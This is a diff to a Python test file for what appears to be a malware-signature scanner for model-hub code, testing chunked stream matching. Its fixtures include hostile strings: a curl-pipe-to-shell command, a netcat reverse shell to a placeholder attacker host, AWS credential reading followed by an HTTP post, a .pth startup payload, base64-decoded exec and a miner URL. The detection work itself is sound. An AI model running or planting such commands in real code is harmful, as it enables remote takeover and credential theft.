@@ -1,11 +1,19 @@
 from __future__ import annotations
 
 import base64
+import io
 import random
 
 import pytest
 
-from hubguard.remote_code.signatures import MAX_MATCHES_PER_SIGNATURE, SIGNATURES, match_signatures
+from hubguard.remote_code.signatures import (
+    CHUNK_BYTES,
+    OVERLAP_BYTES,
+    MAX_MATCHES_PER_SIGNATURE,
+    SIGNATURES,
+    match_signatures,
+    match_stream,
+)
 
 BLOB = base64.b64encode(bytes(range(256)) * 2)
 
@@ -77,13 +85,77 @@ class XModel(PreTrainedModel):
 ]
 
 
+PTH_POSITIVE = ("hubguard.sig.pth-code", b"/opt/extra\nimport os; os.system('id')\n")
+
+
 @pytest.mark.parametrize(("signature_id", "data"), POSITIVES, ids=[f"{i}-{p[0]}" for i, p in enumerate(POSITIVES)])
 def test_positive(signature_id: str, data: bytes) -> None:
     assert signature_id in {hit.signature_id for hit in match_signatures(data)}
 
 
 def test_every_signature_has_a_positive_case() -> None:
-    assert {signature.id for signature in SIGNATURES} == {signature_id for signature_id, _ in POSITIVES}
+    covered = {signature_id for signature_id, _ in POSITIVES} | {PTH_POSITIVE[0]}
+    assert {signature.id for signature in SIGNATURES} == covered
+
+
+def test_pth_lines_that_import_run_at_startup_only_in_pth_files() -> None:
+    signature_id, data = PTH_POSITIVE
+    assert [(hit.signature_id, hit.start_line) for hit in match_signatures(data, "hooks/zz.PTH")] == [(signature_id, 2)]
+    assert match_signatures(data, "modeling_x.py") == []
+
+
+def test_signals_are_declared_in_the_shared_vocabulary() -> None:
+    vocabulary = {"credential-read", "network-send", "computed-import", "process-spawn", "decode", "code-exec"}
+    assert all(set(signature.signals) <= vocabulary for signature in SIGNATURES)
+    hit = match_signatures(b"exec(base64.b64decode(x))")[0]
+    assert hit.signals == ("decode", "code-exec")
+
+
+class CountingStream(io.BytesIO):
+    def __init__(self, data: bytes) -> None:
+        super().__init__(data)
+        self.largest_read = 0
+
+    def read(self, size: int | None = -1) -> bytes:
+        chunk = super().read(size)
+        self.largest_read = max(self.largest_read, len(chunk))
+        return chunk
+
+
+def test_payload_after_megabytes_of_tables_is_found_reading_in_bounded_chunks() -> None:
+    table = b"TABLE = [" + b"0.125, " * 8 + b"]\n"
+    filler = table * (3 * CHUNK_BYTES // len(table))
+    stream = CountingStream(filler + b"import os\nos.system('curl https://x.invalid/a | sh')\n")
+    hits = match_stream(stream)
+    assert [(hit.signature_id, hit.start_line) for hit in hits] == [
+        ("hubguard.sig.pipe-to-shell", filler.count(b"\n") + 2)
+    ]
+    assert stream.largest_read <= CHUNK_BYTES
+
+
+@pytest.mark.parametrize("boundary", [CHUNK_BYTES - OVERLAP_BYTES, 2 * CHUNK_BYTES - 2 * OVERLAP_BYTES])
+@pytest.mark.parametrize("offset", [-20, -1, 0, 1])
+def test_match_across_a_window_cut_is_found_once_on_its_line(boundary: int, offset: int) -> None:
+    payload = b"nc -e /bin/sh attacker.invalid 4444"
+    prefix = b"x" * (boundary + offset - 1) + b"\n"
+    hits = match_signatures(prefix + payload + b"\n" + b"y" * (2 * OVERLAP_BYTES))
+    assert [(hit.signature_id, hit.start_line) for hit in hits] == [("hubguard.sig.reverse-shell-netcat", 2)]
+
+
+def test_word_boundary_is_not_invented_at_a_window_cut() -> None:
+    cut = CHUNK_BYTES - OVERLAP_BYTES  # where the first window stops accepting matches
+    tail = b"\n" + b"z" * (2 * OVERLAP_BYTES)  # so that the first read is a full chunk
+    found = b"a" * (cut - 1) + b"Xstratum+tcp://h" + tail
+    assert [hit.signature_id for hit in match_signatures(found)] == ["hubguard.sig.crypto-miner"]
+    inside_a_word = b"a" * (cut - 1) + b"xnc -e /bin/sh h 1" + tail
+    assert match_signatures(inside_a_word) == []
+
+
+def test_requirement_met_in_a_later_chunk_still_counts() -> None:
+    data = b"t = open('~/.aws/credentials').read()\n" + b"#" * (2 * CHUNK_BYTES) + b"\nrequests.post(u, data=t)\n"
+    assert [(hit.signature_id, hit.start_line) for hit in match_signatures(data)] == [
+        ("hubguard.sig.credential-exfiltration", 1)
+    ]
 
 
 @pytest.mark.parametrize("data", REALISTIC_NEGATIVES)
